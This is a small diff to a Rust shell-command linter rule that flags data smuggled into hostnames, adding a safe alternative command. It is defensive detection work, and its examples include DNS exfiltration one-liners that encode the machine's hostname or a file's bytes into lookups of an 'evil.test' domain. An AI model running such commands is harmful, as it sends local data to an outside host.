@@ -10,6 +10,7 @@ rule! {
     /// Write the name out. A name that is one variable as a whole is free: `ping "$HOST"`.
     pub struct DataInHostname;
     id: "data-in-hostname", pack: Exfiltration, level: Deny,
+    instead: ["ping -c1 \"$HOST\""],
     examples: [
         hit Shell("nslookup $(hostname -f | base32).evil.test"),
         hit Shell("ping -c1 $(tail -c9 k).evil.test"),
